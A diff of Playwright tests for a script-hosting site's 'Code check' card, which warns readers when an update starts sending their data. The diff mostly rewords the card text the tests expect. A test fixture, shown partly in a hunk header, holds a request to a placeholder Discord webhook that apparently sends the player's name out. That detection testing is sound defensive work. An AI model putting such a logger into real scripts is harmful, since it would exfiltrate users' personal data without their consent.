@@ -10,8 +10,11 @@ request({ Url = "https://discord.com/api/webhooks/123456789012345678/demo", Meth
 `
 const REQUEST_LINE = 42
 
-const card = (page: Page) => page.getByRole('region', { name: 'What it does' })
-const finding = (page: Page) => card(page).getByRole('listitem').filter({ hasText: 'Sends data about you' })
+const card = (page: Page) => page.getByRole('region', { name: 'Code check' })
+const finding = (page: Page) =>
+  card(page)
+    .getByRole('listitem')
+    .filter({ hasText: /Sends (data about you|your name)/ })
 
 test('an update that starts to send data says so on the page, with its line, and in the history', async ({
   page,
@@ -21,7 +24,7 @@ test('an update that starts to send data says so on the page, with its line, and
   const path = await publishScript(page, { title: 'Quiet counter', script_content: 'print("first of two")\n' })
   await waitForCard(page, path)
   await page.goto(path)
-  await expect(card(page)).toContainText('We found none of the 27 things we look for')
+  await expect(card(page)).toContainText('Nothing found in our code check')
   await changeScript(page, path, {
     version: '1.1.0',
     script_content: LOGGER,
@@ -31,10 +34,10 @@ test('an update that starts to send data says so on the page, with its line, and
   await releaseWaiting(await signInAs('okapi', '/moderation/held'), path)
   await waitForCard(page, path)
   await page.goto(path)
-  const change = /This update starts to .*send data about the player.* contact discord\.com\./
+  const change = /This update starts to .*send data about you.* contact discord\.com\./
   await expect(card(page)).toContainText(change)
   await test.step('a finding leads to its line and back, with the keyboard only', async () => {
-    await expect(finding(page)).toContainText('Sends data about you to discord.com: your name')
+    await expect(finding(page)).toContainText('Sends your name to discord.com')
     await expect(finding(page)).toContainText('Not declared')
     await expect(finding(page)).toContainText('Seen in the code')
     await expect(card(page)).toContainText('As declared')
@@ -58,7 +61,7 @@ test('an update that starts to send data says so on the page, with its line, and
     await expect(finding(page).locator('summary')).toBeFocused()
     await expect(finding(page)).toBeInViewport()
   })
-  await page.getByRole('button', { name: /^Show and compare/ }).click()
+  await page.getByRole('button', { name: /^All \d+ versions/ }).click()
   await expect(page.getByRole('list', { name: 'Versions' }).getByRole('listitem').first()).toContainText(change)
 })
 
@@ -113,16 +116,16 @@ test('the card says what could not be checked, and waits for the reader with res
     hosts: [{ host: 'collector.example', line: 3, declared: 'undeclared', kind: 'collector' }],
     opaque: [{ reason: 'What the code does that it downloads', count: 2 }],
   })
-  await expect(card(page)).toContainText("Doesn't compile: line 7")
-  await expect(card(page)).toContainText('Checked by an older version of our tools')
+  await expect(card(page)).toContainText("Doesn't compile (line 7)")
+  await expect(card(page)).toContainText('Checked with an older version')
   await expect(card(page)).toContainText("but we didn't see it: Asks for a key.")
-  await expect(card(page)).toContainText('What the code does that it downloads (2 places)')
+  await expect(card(page)).toContainText('What the downloaded code does (2 places)')
   await expect(card(page).getByRole('listitem').filter({ hasText: 'collector.example' })).toContainText(
     /Known to collect data.*Not declared/,
   )
   await expectAccessible(page)
 
-  await test.step('what was not looked into comes first if it is most of the script', async () => {
+  await test.step('what was not checked comes first if it is most of the script', async () => {
     await openWith(page, 3, {
       capabilities: [SENDING],
       hosts: [
@@ -132,7 +135,7 @@ test('the card says what could not be checked, and waits for the reader with res
       opaque: [{ reason: UNREAD.obfuscated, count: 1 }],
     })
     await expect(card(page).getByRole('heading', { level: 3 })).toHaveText([
-      'Not looked into',
+      'Not checked',
       'Internet',
       'Servers',
       'Also named in the text',
@@ -146,8 +149,8 @@ test('the card says what could not be checked, and waits for the reader with res
       { compiles: null },
     ].entries()) {
       await openWith(page, 4 + index, changes)
-      await expect(card(page)).toContainText(/We can't say what it does|Doesn't compile/)
-      await expect(card(page)).not.toContainText('We found none')
+      await expect(card(page)).toContainText(/Only partly checked|Doesn't compile/)
+      await expect(card(page)).not.toContainText('Nothing found')
     }
   })
   await test.step('a failed analysis says that nothing is known', async () => {
@@ -176,7 +179,7 @@ test.describe('on a phone', () => {
 
   test('the first screen says what matters most, and the card fits', async ({ page }) => {
     await openWith(page, 0, { capabilities: [{ ...SENDING, id: 'net.exfiltration', declared: 'undeclared' }] })
-    await expect(page.getByRole('link', { name: /^Watch out: Sends data about you/ })).toBeInViewport()
+    await expect(page.getByRole('region', { name: 'Warning' })).toBeInViewport()
     await expectNoOverflow(page)
     await expectAccessible(page)
   })
